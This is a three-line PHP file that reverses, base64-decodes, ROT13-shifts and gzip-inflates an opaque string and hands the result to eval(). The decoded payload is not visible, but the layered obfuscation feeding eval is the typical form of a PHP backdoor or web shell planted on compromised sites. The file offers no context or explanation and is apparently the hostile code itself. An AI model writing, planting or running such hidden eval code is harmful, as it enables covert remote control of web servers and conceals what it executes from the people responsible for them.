<?php
$x = '=cw5trb7rzBcADuoJaqBJQ8wfLM6K5BEbOwQUnlaTwVRRVPsguVS75Vvw+dkxDSoRFJNg7iNH6HSAXADgAYFxmcD';
eval(gzinflate(str_rot13(base64_decode(strrev($x)))));
